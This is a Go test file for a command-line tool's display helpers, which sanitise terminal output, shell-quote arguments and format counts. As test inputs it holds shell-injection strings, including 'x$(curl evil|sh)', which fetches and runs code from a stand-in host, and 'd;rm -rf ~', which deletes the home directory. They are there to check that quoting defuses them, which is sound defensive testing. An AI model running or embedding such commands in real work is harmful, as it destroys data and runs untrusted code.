package display_test

import (
	"os/exec"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/whencehq/whence/pipeline/display"
)

func TestALineGivesNoOrdersToATerminal(t *testing.T) {
	for text, want := range map[string]string{
		"Karten abgelehnt · 決済 👩‍🚒": "Karten abgelehnt · 決済 👩‍🚒",
		"\x1b[31mred\x07":           "�[31mred�",
		"\u009b31m":                 "�31m",
		"\x9b31m":                   "�31m",
		"one\r\ntwo\tthree\u2028":   "one��two�three�",
		"a\u202egnp.exe\u2066":      "a�gnp.exe�",
	} {
		if got := display.Line(text); got != want {
			t.Errorf("%q is shown as %q, want %q", text, got, want)
		}
	}
	if got := display.Lines("a\tb\n\x1b[2J\r\n"); got != "a\tb\n�[2J�\n" {
		t.Errorf("lines are shown as %q", got)
	}
}

func TestCommandsAreShownAsAShellTakesThem(t *testing.T) {
	for word, want := range map[string]string{
		"inc-310": "inc-310", "deployment:v1+2": "deployment:v1+2", "it's": `'it'\''s'`, "": "''", "a b": "'a b'",
		"x$(curl evil|sh)": "'x$(curl evil|sh)'", "d;rm -rf ~": "'d;rm -rf ~'",
		"a`b": `$'a\140b'`, `a\'b`: `$'a\134\047b'`, "a\x03\nls": `$'a\003\012ls'`, "é\xff": `$'é\377'`, "\u009b": `$'\302\233'`,
	} {
		if got := display.Word(word); got != want {
			t.Errorf("%q is shown as %s, want %s", word, got, want)
		}
	}
	for want, arguments := range map[string][]string{
		"whence confirm inc-310 none":       {"inc-310", "none"},
		"whence confirm -- -x flag:f":       {"-x", "flag:f"},
		"whence confirm -- inc --force":     {"inc", "--force"},
		"whence confirm -- '-x$(ls)' 'a b'": {"-x$(ls)", "a b"},
	} {
		if got := display.Command("whence confirm", arguments...); got != want {
			t.Errorf("shown is %s, want %s", got, want)
		}
	}
}

// Whatever the word, no shell takes it as more than one, and those that read octal
// take it as what was meant.
func TestAShellReadsTheWordThatWasMeant(t *testing.T) {
	for shell, octal := range map[string]bool{"bash": true, "zsh": true, "ksh": true, "dash": false} {
		path, err := exec.LookPath(shell)
		if err != nil {
			t.Logf("%s is not installed", shell)
			continue
		}
		rapid.Check(t, func(t *rapid.T) {
			var line, want strings.Builder
			for range 50 { // to start a shell takes time
				word := rapid.StringOf(rapid.RuneFrom([]rune("ab'\"`\\$(){};|&<>*?[]~#!- \t\n\r\x01\x03\x1b\x7fé"))).Draw(t, "word")
				shown := display.Word(word)
				if strings.HasPrefix(shown, "$'") && !octal {
					word = "$" + shown[2:len(shown)-1]
				}
				line.WriteString("set -- " + shown + "; printf '%s %s\\0' $# \"$1\"\n")
				want.WriteString("1 " + word + "\x00")
			}
			out, err := exec.Command(path, "-c", line.String()).Output()
			if err != nil || string(out) != want.String() {
				t.Fatalf("%s\n%s\nread as %q, %v\nwant    %q", shell, line.String(), out, err, want.String())
			}
		})
	}
}

func TestNumbersAreGroupedByThousands(t *testing.T) {
	for n, want := range map[int64]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567", -1234: "-1,234", -123: "-123"} {
		if got := display.Count(n); got != want {
			t.Errorf("%d is written %s, want %s", n, got, want)
		}
	}
}

func TestOneOfAThingIsNotMany(t *testing.T) {
	for n, want := range map[int64]string{0: "0 events", 1: "1 event", 2000: "2,000 events"} {
		if got := display.Quantity(n, "event", "events"); got != want {
			t.Errorf("%d: %s, want %s", n, got, want)
		}
	}
}
